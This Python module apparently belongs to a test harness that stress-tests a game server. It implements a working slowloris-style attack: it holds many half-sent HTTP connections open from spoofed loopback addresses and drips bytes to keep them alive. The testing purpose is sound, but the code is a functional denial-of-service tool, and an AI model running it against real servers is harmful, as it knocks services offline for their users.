"""Connections that begin a request and never end it, from as many addresses as one likes."""

import socket
import time
from contextlib import ExitStack, suppress

from attacks.target import Report, Stopped, Target, connect, upgrade

BEGUN = {
    "nothing": b"",
    "half a header": b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ",
    "half a body": b"POST /api/games HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    b"Content-Length: 1000\r\n\r\n{",
}


def address_of(number: int) -> str:
    """One of many addresses of this machine."""
    return f"127.7.{number // 250 % 250}.{1 + number % 250}"


def hold(
    target: Target,
    begun: str,
    count: int,
    addresses: int,
    stopped: Stopped,
    every: float = 1.0,
    report: Report | None = None,
) -> Report:
    """Keep so many connections open, each with a byte every so often; lost ones are replaced."""
    report = report or Report()
    start = BEGUN.get(begun) or (upgrade(target.path) if begun == "no hello" else b"")
    with ExitStack() as stack:
        held: list[socket.socket] = []
        while not stopped():
            for number in range(len(held), count):
                if stopped():
                    break
                address = target.address if addresses == 1 else address_of(number % addresses)
                try:
                    one = connect(target.port, address, timeout=2)
                    one.sendall(start)
                except OSError:
                    report.refused += 1
                    continue
                stack.push(one)
                report.connections += 1
                held.append(one)
            report.sent = max(report.sent, len(held))
            time.sleep(every)
            held = [one for one in held if not _lost(one, report, drip=begun != "nothing")]
    return report


def _lost(one: socket.socket, report: Report, *, drip: bool) -> bool:
    """Whether a connection was closed by the server; else it gets one more byte."""
    one.setblocking(False)
    try:
        if drip:
            one.send(b"x")
        while data := one.recv(4096):
            if b" 101 " not in data:
                report.closed[data.split(b" ", 2)[1].decode() if b" " in data else "?"] += 1
    except BlockingIOError:
        return False
    except OSError:
        report.closed["reset"] += 1
    with suppress(OSError):
        one.close()
    return True
